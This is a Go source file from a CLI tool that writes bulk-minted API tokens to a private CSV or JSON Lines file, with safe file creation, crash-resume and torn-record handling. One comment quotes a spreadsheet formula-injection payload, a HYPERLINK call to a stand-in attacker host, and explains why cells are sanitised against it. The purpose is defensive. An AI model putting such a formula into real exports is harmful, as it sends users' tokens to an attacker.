package bulk

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"strconv"
	"strings"
	"time"

	"github.com/axero-cli/axero/client"
	"github.com/axero-cli/axero/internal/textsafe"
)

// Record is one minted token in the output file.
type Record struct {
	User    string     `json:"user"` // as given in the input
	UserID  int64      `json:"UserID"`
	TokenID int64      `json:"TokenID"`
	Name    string     `json:"name"`
	Expiry  *time.Time `json:"expiry"` // nil: never expires
	Token   string     `json:"token"`
}

// outputColumns is the CSV output's header.
var outputColumns = []string{"user", "UserID", "TokenID", "name", "expiry", "token"}

// RecordFor builds the output record of a created token.
func RecordFor(user string, ct *client.CreatedToken) Record {
	r := Record{User: user, UserID: ct.UserID, TokenID: ct.TokenID, Name: ct.Name, Token: ct.Secret}
	if ct.ExpirationDate != nil && !ct.ExpirationDate.IsZero() {
		t := ct.ExpirationDate.UTC()
		r.Expiry = &t
	}
	return r
}

// isCSVPath reports whether the output goes to CSV rather than JSON Lines.
func isCSVPath(path string) bool {
	return strings.EqualFold(strings.TrimSpace(path[max(0, len(path)-4):]), ".csv")
}

// OutputWriter appends records to the output file. It is used from one
// goroutine only.
type OutputWriter struct {
	f   *os.File
	csv bool
	buf bytes.Buffer
	cw  *csv.Writer
}

// CreateOutput creates path, mode 0600, failing if anything exists there
// (a symbolic link included).
func CreateOutput(path string) (*OutputWriter, error) {
	f, err := createPrivate(path, os.O_WRONLY)
	if err != nil {
		return nil, outputOpenError(path, err)
	}
	w := newOutputWriter(f, isCSVPath(path))
	if w.csv {
		if err := w.cw.Write(outputColumns); err != nil {
			_ = f.Close()
			return nil, err
		}
		if err := w.flushBuf(); err != nil {
			_ = f.Close()
			return nil, err
		}
		if err := f.Sync(); err != nil {
			_ = f.Close()
			return nil, err
		}
	}
	return w, nil
}

// AppendOutput opens an existing output file for --resume, after
// ReadOutput has cut off any torn last record at size. A missing file is
// created. It refuses a symbolic link, anything but a regular file, and a
// file that others can read: appending tokens to it would hand them over.
func AppendOutput(path string, size int64) (*OutputWriter, error) {
	what := "--out " + path
	fi, err := checkExisting(path, what)
	if err != nil {
		return nil, err
	}
	if fi == nil {
		return CreateOutput(path)
	}
	if err := checkPrivate(fi, what); err != nil {
		return nil, err
	}
	f, err := openExisting(path, what, os.O_WRONLY, fi)
	if err != nil {
		return nil, err
	}
	if err := f.Truncate(size); err != nil {
		_ = f.Close()
		return nil, fmt.Errorf("--out %s: %w", path, err)
	}
	if _, err := f.Seek(size, io.SeekStart); err != nil {
		_ = f.Close()
		return nil, err
	}
	w := newOutputWriter(f, isCSVPath(path))
	if w.csv && size == 0 {
		if err := w.cw.Write(outputColumns); err != nil {
			_ = f.Close()
			return nil, err
		}
		if err := w.flushBuf(); err != nil {
			_ = f.Close()
			return nil, err
		}
	}
	return w, nil
}

func outputOpenError(path string, err error) error {
	if errors.Is(err, os.ErrExist) {
		return &ExistsError{Path: path}
	}
	var pe *os.PathError
	if errors.As(err, &pe) {
		err = pe.Err
	}
	return fmt.Errorf("cannot create --out %s: %w", path, err)
}

// ExistsError: the output file exists and --resume was not given.
type ExistsError struct{ Path string }

func (e *ExistsError) Error() string {
	return fmt.Sprintf("--out %s already exists: pass --resume to continue that run, or choose another file", e.Path)
}

func newOutputWriter(f *os.File, isCSV bool) *OutputWriter {
	w := &OutputWriter{f: f, csv: isCSV}
	w.cw = csv.NewWriter(&w.buf)
	return w
}

// Write appends one record without syncing; Sync makes the records written
// so far durable. Each record reaches the file in a single write call, so a
// crash leaves at most one torn line, at the end. In CSV every cell goes
// through textsafe.CSVCell: a user or token name such as
// =HYPERLINK("http://evil.example/?"&F2) must not become a formula that
// sends the token in the next cell away. JSON Lines keep exact values.
func (w *OutputWriter) Write(r Record) error {
	if w.csv {
		exp := "never"
		if r.Expiry != nil {
			exp = r.Expiry.UTC().Format(time.RFC3339)
		}
		row := []string{r.User, strconv.FormatInt(r.UserID, 10), strconv.FormatInt(r.TokenID, 10), r.Name, exp, r.Token}
		if err := w.cw.Write(textsafe.CSVRow(row)); err != nil {
			return err
		}
	} else {
		enc := json.NewEncoder(&w.buf)
		enc.SetEscapeHTML(false)
		if err := enc.Encode(r); err != nil {
			return err
		}
	}
	return w.flushBuf()
}

func (w *OutputWriter) flushBuf() error {
	w.cw.Flush()
	if err := w.cw.Error(); err != nil {
		return err
	}
	_, err := w.f.Write(w.buf.Bytes())
	w.buf.Reset()
	return err
}

// Sync makes every record written so far durable.
func (w *OutputWriter) Sync() error { return w.f.Sync() }

// Close syncs and closes the file.
func (w *OutputWriter) Close() error {
	return errors.Join(w.f.Sync(), w.f.Close())
}

// doneSet is what an existing output file says is finished: the users (by
// input key and by UserID) that have a record, and the tokens it holds.
type doneSet struct {
	keys    map[string]struct{}
	userIDs map[int64]struct{}
	tokens  map[int64]struct{}
	size    int64 // bytes up to the end of the last complete record
}

func newDoneSet() *doneSet {
	return &doneSet{keys: map[string]struct{}{}, userIDs: map[int64]struct{}{}, tokens: map[int64]struct{}{}}
}

func (d *doneSet) add(user string, userID, tokenID int64) {
	d.keys[UserKey(user)] = struct{}{}
	d.userIDs[userID] = struct{}{}
	d.tokens[tokenID] = struct{}{}
}

// ReadOutput reads an existing output file for --resume. A last line
// without its newline is a record torn by a crash: it is left out and its
// token is revoked by reconciliation, since its intent has no done record.
// A missing file is empty. Like AppendOutput, it refuses a symbolic link,
// anything but a regular file and a file that others can read, so that a
// resume stops before it changes anything.
func ReadOutput(path string) (*doneSet, error) {
	d := newDoneSet()
	f, err := openOurs(path, "--out "+path, os.O_RDONLY, true)
	if err != nil {
		return nil, err
	}
	if f == nil {
		return d, nil
	}
	defer func() { _ = f.Close() }()
	isCSV := isCSVPath(path)
	br := bufio.NewReader(f)
	var off int64
	for lineNo := 1; ; lineNo++ {
		line, err := br.ReadBytes('\n')
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			return nil, fmt.Errorf("reading --out %s: %w", path, err)
		}
		off += int64(len(line))
		text := strings.TrimSpace(string(line))
		if text == "" {
			continue
		}
		if isCSV {
			if lineNo == 1 {
				continue // the header
			}
			rec, err := csv.NewReader(strings.NewReader(text)).Read()
			if err != nil || len(rec) < 3 {
				return nil, fmt.Errorf("--out %s is damaged at line %d; it is not a file this command wrote", path, lineNo)
			}
			uid, err1 := strconv.ParseInt(rec[1], 10, 64)
			tid, err2 := strconv.ParseInt(rec[2], 10, 64)
			if err1 != nil || err2 != nil {
				return nil, fmt.Errorf("--out %s is damaged at line %d; it is not a file this command wrote", path, lineNo)
			}
			d.add(textsafe.CSVUncell(rec[0]), uid, tid)
			continue
		}
		var r Record
		if err := json.Unmarshal([]byte(text), &r); err != nil || r.UserID == 0 {
			return nil, fmt.Errorf("--out %s is damaged at line %d; it is not a file this command wrote", path, lineNo)
		}
		d.add(r.User, r.UserID, r.TokenID)
	}
	d.size = off
	return d, nil
}
